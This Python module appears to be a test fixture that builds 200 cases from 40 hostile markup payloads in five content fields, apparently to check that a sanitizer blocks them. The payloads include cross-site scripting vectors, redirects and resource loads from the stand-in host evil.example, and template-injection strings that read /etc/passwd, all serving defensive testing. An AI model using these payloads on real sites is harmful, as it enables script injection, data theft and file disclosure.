"""Two hundred things that should never run, each made to call `ran()` or to ask another host for something."""

EVIL = "https://evil.example/x"
_RUN = "window.ran=1;alert(1)"

_MARKUP = (
    f"<script>{_RUN}</script>",
    f"<ScRiPt src={EVIL}.js></sCrIpT>",
    f"<img src=x onerror='{_RUN}'>",
    f"<img src={EVIL}.png>",
    f"<svg onload='{_RUN}'>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>a</text></a></svg>",
    f"<math><mtext></p><img src=x onerror='{_RUN}'></math>",
    f"<iframe src='javascript:{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data='{EVIL}'></object>",
    f"<embed src='{EVIL}'>",
    f"<link rel=stylesheet href='{EVIL}.css'>",
    f"<style>@import '{EVIL}.css'; body{{background:url({EVIL})}}</style>",
    f"<base href='{EVIL}/'>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<form action='{EVIL}'><input autofocus onfocus='{_RUN}'></form>",
    f"<video src=x onerror='{_RUN}'></video>",
    f"<audio autoplay onloadstart='{_RUN}' src='{EVIL}'></audio>",
    f"<details open ontoggle='{_RUN}'>a</details>",
    f"<body onload='{_RUN}'>",
    f"<marquee onstart='{_RUN}'>a</marquee>",
    f"<a href='javascript:{_RUN}'>a</a>",
    f"<a href='data:text/html,<script>{_RUN}</script>'>a</a>",
    f"</title><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f"<!--[if mso]><script>{_RUN}</script><![endif]-->",
    f'"><script>{_RUN}</script>',
    f"'><img src=x onerror='{_RUN}'>",
    f'" onmouseover="{_RUN}" x="',
    f"' onfocus='{_RUN}' autofocus='",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}",
    f"${{{_RUN}}}",
    f"[a](javascript:{_RUN})",
    f"![a]({EVIL}.png)",
    f"<{_RUN}//",
)
PLACES = ("title", "body", "author", "picture", "address")


def payloads() -> list[tuple[str, str]]:
    """(place, payload) for each of the two hundred."""
    return [(place, text) for text in _MARKUP for place in PLACES]
